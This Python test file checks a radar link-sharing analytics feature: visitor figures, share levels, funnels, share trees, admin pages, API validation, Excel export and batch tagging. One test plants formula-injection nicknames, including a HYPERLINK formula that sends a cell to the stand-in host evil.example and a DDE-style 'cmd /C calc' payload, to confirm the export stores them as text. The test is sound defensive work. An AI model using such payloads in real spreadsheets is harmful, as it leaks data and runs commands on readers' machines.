"""Radar analytics: each figure of seed 002 §5 pinned on a scenario counted by hand (scenario.py)."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from bot.contacts.models import Customer
from bot.radar.analytics import figures as radar_stats
from bot.radar.analytics import network as radar_network
from bot.radar.analytics.figures import CustomerFilter
from bot.radar.models import Radar
from tests.radar.scenario import build, make_radar, people
from tests.readapi_corp import login

TZ = "Asia/Shanghai"
NOW = datetime(2026, 3, 10, 4, 0, tzinfo=UTC)  # 12:00 in Shanghai
DAY_START = datetime(2026, 3, 9, 16, 0, tzinfo=UTC)  # 2026-03-10 00:00 in Shanghai


@pytest.fixture
async def scenario(live_database):
    ids = await people()
    radar = await make_radar()
    visits = await build(radar, ids, DAY_START)
    return radar, ids, visits


def by_name(rows) -> list[str]:
    return [r["name"] for r in rows]


async def test_visitors_visits_and_shares_count_customers_once_and_leave_out_non_friends(scenario):
    radar, _, _ = scenario
    figures = (await radar_stats.analytics(radar, TZ, NOW)).figures
    assert figures["visitors"] == 6  # A-F; the non-friend N is not counted
    assert figures["visits"] == 9  # ten openings, less N's
    assert figures["today_visitors"] == 5  # A, D, C, E, F (B only came yesterday)
    assert figures["today_visits"] == 5
    # C (twice, counted once), D (through the non-friend N) and F; B opening their own link is no share
    assert figures["shared"] == 3
    assert figures["today_shared"] == 2  # D and F: C's first share-visit was yesterday
    assert figures["share_rate"] == 50.0  # 3 / 6


async def test_average_time_and_progress_are_per_customer_total_time_and_furthest_progress(scenario):
    radar, _, _ = scenario
    figures = (await radar_stats.analytics(radar, TZ, NOW)).figures
    # time per customer: A 120, B 35, C 60, D 40, E 0, F 20 -> 275 / 6
    assert figures["avg_time"] == 46
    # furthest progress per customer: A 60, B 20, C 100, D 50, E 0, F 100 -> 330 / 6
    assert figures["avg_progress"] == 55.0


async def test_levels_take_each_customers_lowest_level_and_count_who_brought_someone(scenario):
    radar, _, _ = scenario
    levels = (await radar_stats.analytics(radar, TZ, NOW)).levels
    # level 1: A, B (also at level 2 through their own link), E; only A's share brought a customer (C)
    # level 2: C, whose share brought F; level 3: D and F, who brought nobody
    assert levels == [
        {"level": 1, "people": 3, "sharers": 1, "share_rate": 33.3},
        {"level": 2, "people": 1, "sharers": 1, "share_rate": 100.0},
        {"level": 3, "people": 2, "sharers": 0, "share_rate": 0.0},
    ]


async def test_leaderboards_rank_by_visits_then_time_and_by_total_time(scenario):
    radar, _, _ = scenario
    overview = await radar_stats.analytics(radar, TZ, NOW)
    assert by_name(overview.by_visits) == ["王小明", "钱多多", "赵丽", "孙悟空", "吴用", "周芷若"]
    assert [r["visits"] for r in overview.by_visits] == [2, 2, 2, 1, 1, 1]
    assert by_name(overview.by_time) == ["王小明", "钱多多", "孙悟空", "赵丽", "吴用", "周芷若"]
    assert [r["time"] for r in overview.by_time] == [120, 60, 40, 35, 20, 0]


async def test_funnel_goes_from_sends_to_customers_who_brought_a_customer(scenario):
    radar, _, _ = scenario
    funnel = (await radar_stats.analytics(radar, TZ, NOW)).funnel
    assert [(s["label"], s["value"]) for s in funnel] == [
        ("发送次数", 4),  # every tap: s1 three times, s2 once
        ("打开客户数", 6),
        ("阅读 ≥ 50%", 4),  # A 60, C 100, D 50, F 100
        ("读完", 2),  # C and F
        ("分享", 2),  # A (brought C) and C (brought F); the non-friend N is not a customer
    ]


async def test_link_radars_have_no_time_or_progress(live_database):
    ids = await people()
    radar = await make_radar(Radar.LINK, "官网")
    await build(radar, ids, DAY_START)
    overview = await radar_stats.analytics(radar, TZ, NOW)
    assert overview.figures["avg_time"] is None and overview.figures["avg_progress"] is None
    assert overview.figures["visitors"] == 6 and overview.by_time == []
    assert [s["label"] for s in overview.funnel] == ["发送次数", "打开客户数", "分享"]
    _, rows = await radar_stats.customers(radar, CustomerFilter(), limit=10)
    assert {(r["last_duration"], r["last_progress"]) for r in rows} == {(None, None)}


async def test_customer_analysis_columns_come_from_each_customers_latest_visit(scenario):
    radar, _, _ = scenario
    total, rows = await radar_stats.customers(radar, CustomerFilter(), limit=20)
    assert total == 6
    table = [
        (r["name"], r["member_name"], r["level"], r["last_duration"], r["last_progress"],
         r["last_channel_name"], r["visits"], r["brought"])
        for r in rows
    ]  # fmt: skip
    assert table == [
        ("吴用", "张三", 3, 20, 100, "客户分享", 1, 0),
        ("周芷若", "赵六", 1, 0, 0, "员工发送", 1, 0),
        ("钱多多", "张三", 2, 10, 30, "客户分享", 2, 1),  # brought F
        ("孙悟空", "张三", 3, 40, 50, "客户分享", 1, 0),
        ("王小明", "张三", 1, 20, 40, "员工发送", 2, 1),  # brought C; the non-friend N not counted
        ("赵丽", "张三", 1, 5, 10, "客户分享", 2, 0),  # her own link: level stays 1, brought nobody
    ]
    assert rows[0]["last_visit_at"] == DAY_START + timedelta(hours=8, minutes=90)


async def test_customer_analysis_searches_by_name_member_and_last_visit_range_and_pages(scenario):
    radar, _, _ = scenario

    async def names(**kw) -> list[str]:
        return by_name((await radar_stats.customers(radar, CustomerFilter(**kw), limit=20))[1])

    assert await names(text="钱") == ["钱多多"]
    assert await names(text="%") == []  # a wildcard is just a character
    assert await names(userid="s2") == ["周芷若"]
    assert await names(last_before=DAY_START) == ["赵丽"]
    assert await names(last_from=DAY_START, userid="s1") == ["吴用", "钱多多", "孙悟空", "王小明"]
    total, page = await radar_stats.customers(radar, CustomerFilter(), limit=2, offset=4)
    assert total == 6 and by_name(page) == ["王小明", "赵丽"]
    assert await radar_stats.customers(radar, CustomerFilter(), limit=2, offset=10) == (6, [])


async def test_export_reads_customers_in_chunks_and_lists_each_once_in_the_tables_order(scenario):
    radar, _, _ = scenario
    _, table = await radar_stats.customers(radar, CustomerFilter(), limit=20)
    chunked = [r async for r in radar_stats.each_customer(radar, CustomerFilter(), chunk=2)]
    assert chunked == table
    s1 = [r["name"] async for r in radar_stats.each_customer(radar, CustomerFilter(userid="s1"), chunk=2)]
    assert s1 == ["吴用", "钱多多", "孙悟空", "王小明", "赵丽"]


async def test_staff_analysis_counts_sends_direct_customers_and_their_chains(scenario):
    radar, _, _ = scenario
    rows = await radar_stats.staff(radar)
    assert [(r["name"], r["sends"], r["direct"], r["visits"], r["visitors"]) for r in rows] == [
        # s1: 3 taps; A and B came through the sends; 8 customer visits by A, B, C, D, F in s1's chains
        ("张三", 3, 2, 8, 5),
        ("赵六", 1, 1, 1, 1),
    ]


async def test_source_path_runs_from_the_sender_through_each_sharer(scenario):
    radar, ids, _ = scenario
    path = await radar_network.source_path(radar, ids["F"])
    assert path["member_name"] == "张三"
    assert [(s["level"], s["name"]) for s in path["steps"]] == [(1, "王小明"), (2, "钱多多"), (3, "吴用")]
    through_stranger = await radar_network.source_path(radar, ids["D"])
    assert [s["name"] for s in through_stranger["steps"]] == ["王小明", "非好友访客", "孙悟空"]
    assert await radar_network.source_path(radar, "wm_nobody") is None


async def test_network_draws_the_customers_share_tree_with_counts(scenario):
    radar, ids, _ = scenario
    graph = await radar_network.network(radar, ids["A"])
    names = {n["id"]: n["name"] for n in graph["nodes"]}
    edges = sorted((names[e["source"]], names[e["target"]], e["count"]) for e in graph["edges"])
    assert edges == [
        ("王小明", "钱多多", 2),  # C opened A's link twice
        ("王小明", "非好友访客", 1),
        ("钱多多", "吴用", 1),
        ("非好友访客", "孙悟空", 1),
    ]
    assert [n["name"] for n in graph["nodes"] if n["root"]] == ["王小明"]
    leaf = await radar_network.network(radar, ids["F"])
    assert [n["name"] for n in leaf["nodes"]] == ["吴用"] and leaf["edges"] == []


# Through HTTP, on the mirrored corp: c1-c6 are the scenario's A-F, with the same names.


@pytest.fixture
async def on_company(company):
    ids = await people({k: company.ids[f"c{i}"] for i, k in enumerate("ABCDEF", 1)})
    radar = await make_radar()
    await build(radar, ids, radar_stats.today_bounds(TZ)[0])
    return company, radar, ids


async def test_the_analytics_pages_are_for_admins_and_show_the_scenarios_numbers(on_company):
    company, radar, _ = on_company
    client, base = company.client, f"/console/radar/radars/{radar.id}/analytics"
    await login(client, company.emulator, "s1")
    for path in (base, base + "/customers", base + "/staff", base + "/customers.xlsx"):
        assert (await client.get(path)).status == 403, path
    assert (await company.get(f"/api/v1/radars/{radar.id}/analytics", as_="s1"))[0] == 403
    await login(client, company.emulator, "ops")
    page = await (await client.get(base)).text()
    figures = dict(re.findall(r'data-figure="(\w+)">\s*<span>[^<]*</span>\s*<b>([^<]*)</b>', page))
    assert figures == {
        "visitors": "6", "today_visitors": "5", "visits": "9", "today_visits": "5", "shared": "3",
        "today_shared": "2", "avg_time": "46 秒", "avg_progress": "55.0%", "share_rate": "50.0%",
    }  # fmt: skip
    assert "分享客户数 ÷ 总访问客户数 × 100%" in page and "vendor/echarts/echarts.min.js" in page
    assert "<td>1级客户</td><td>3</td><td>1</td><td>33.3%</td>" in page
    staff = await (await client.get(base + "/staff")).text()
    assert "<td>张三</td><td>3</td><td>2</td><td>8</td><td>5</td>" in staff
    assert (await client.get("/console/radar/radars/999/analytics")).status == 404


async def test_the_customer_tab_searches_and_links_path_network_and_detail(on_company):
    company, radar, ids = on_company
    client, base = company.client, f"/console/radar/radars/{radar.id}/analytics"
    await login(client, company.emulator, "ops")
    page = await (await client.get(base + "/customers", params={"userid": "s2"})).text()
    assert re.findall(r'data-customer="([^"]+)"', page) == [ids["E"]]
    assert "共 1 位客户" in page
    everyone = await (await client.get(base + "/customers")).text()
    assert "共 6 位客户" in everyone and "重置" in everyone
    path = await (await client.get(f"{base}/customers/{ids['F']}/path")).text()
    assert re.findall(r"<b>([^<]+)</b><span", path) == ["王小明", "钱多多", "吴用"]
    network = await (await client.get(f"{base}/customers/{ids['A']}/network")).text()
    assert '"links"' in network and "<td>王小明</td><td>钱多多</td><td>2</td>" in network
    assert f"/console/customers/{ids['C']}" in everyone
    assert (await client.get(f"{base}/customers/wm_nobody/path")).status == 404


async def test_the_api_gives_the_same_figures_and_refuses_bad_parameters(on_company):
    company, radar, ids = on_company
    base = f"/api/v1/radars/{radar.id}/analytics"
    status, body = await company.get(base)
    assert status == 200 and body["figures"]["shared"] == 3 and body["figures"]["avg_progress"] == 55.0
    assert [s["value"] for s in body["funnel"]] == [4, 6, 4, 2, 2]
    status, body = await company.get(base + "/customers", q="钱")
    assert status == 200 and [i["external_userid"] for i in body["items"]] == [ids["C"]]
    status, body = await company.get(base + "/staff")
    assert [(m["userid"], m["sends"]) for m in body["items"]] == [("s1", 3), ("s2", 1)]
    for params, param in (
        ({"last_from": "昨天"}, "last_from"),
        ({"limit": "0"}, "limit"),
        ({"owner": "s1"}, "owner"),
        ({"last_from": "2026-03-10", "last_to": "2026-03-09"}, "last_to"),
    ):
        status, body = await company.get(base + "/customers", **params)
        assert (status, body["param"]) == (400, param), params
    assert (await company.get("/api/v1/radars/999/analytics"))[0] == 404
    _, doc = await company.get("/api/v1/openapi.json")
    assert "/api/v1/radars/{radar_id}/analytics/customers" in doc["paths"]


async def test_export_writes_the_overview_and_the_filtered_customers(on_company):
    company, radar, _ = on_company
    await login(company.client, company.emulator, "ops")
    response = await company.client.get(
        f"/console/radar/radars/{radar.id}/analytics/customers.xlsx", params={"userid": "s1"}
    )
    assert response.status == 200 and "attachment" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    overview = {row[0]: row[1] for row in book["概览"].iter_rows(values_only=True) if row and row[0]}
    assert overview["雷达名称"] == "产品手册" and overview["分享客户数"] == 3 and overview["分享率"] == 50
    assert overview["1级客户"] == 3 and overview["发送次数"] == 4
    rows = list(book["客户分析"].iter_rows(values_only=True))
    assert rows[0][:4] == ("客户", "external_userid", "所属成员", "客户层级")
    assert [r[0] for r in rows[1:]] == ["吴用", "钱多多", "孙悟空", "王小明", "赵丽"]  # s1's customers
    assert rows[2][2:] == ("张三", "2级", rows[2][4], 10, 30, "客户分享", 2, 1)


async def test_a_nickname_that_reads_like_a_formula_is_exported_as_text(on_company):
    company, radar, ids = on_company
    hostile = {
        "A": '=HYPERLINK("http://evil.example/?"&A2,"点我")',
        "B": "@SUM(1+1)*cmd|' /C calc'!A0",
        "C": "+1+1",
        "D": "-1+1",
    }
    for key, name in hostile.items():
        await Customer.filter(external_userid=ids[key]).update(name=name)
    await Radar.filter(id=radar.id).update(name="=1+1")
    await login(company.client, company.emulator, "ops")
    response = await company.client.get(f"/console/radar/radars/{radar.id}/analytics/customers.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {row[0] for row in book["客户分析"].iter_rows(values_only=True)}
    assert set(hostile.values()) <= names  # shown as the customers typed them
    assert book["概览"]["B1"].value == "=1+1"


async def test_batch_tag_marks_the_tag_in_wecom_as_a_follower_and_says_who_could_not(on_company):
    company, radar, ids = on_company
    client, tag = company.client, company.tags["B"]
    await login(client, company.emulator, "ops")
    url = f"/console/radar/radars/{radar.id}/analytics/customers"
    csrf = re.search(r'name="csrf" value="([^"]+)"', await (await client.get(url)).text()).group(1)
    chosen = [ids["A"], ids["C"], ids["F"]]  # F (吴用) was deleted by s2: nobody follows them
    assert (await client.post(url + "/tag", data={"tag": tag, "external_userid": chosen})).status == 403
    done = await client.post(url + "/tag", data={"csrf": csrf, "tag": tag, "external_userid": chosen})
    text = await done.text()
    assert done.status == 200 and "已为 2 位客户打上标签“B类”" in text and "没有跟进的员工" in text
    follows = company.emulator.state.follows
    assert tag in follows[("s1", ids["A"])].tag_ids  # the member who sent the radar
    assert tag in follows[("kf", ids["C"])].tag_ids  # s1 does not follow 钱多多: her follower kf
    refused = await client.post(url + "/tag", data={"csrf": csrf, "tag": "", "external_userid": chosen})
    assert refused.status == 400 and "请选择一个现有的标签" in await refused.text()
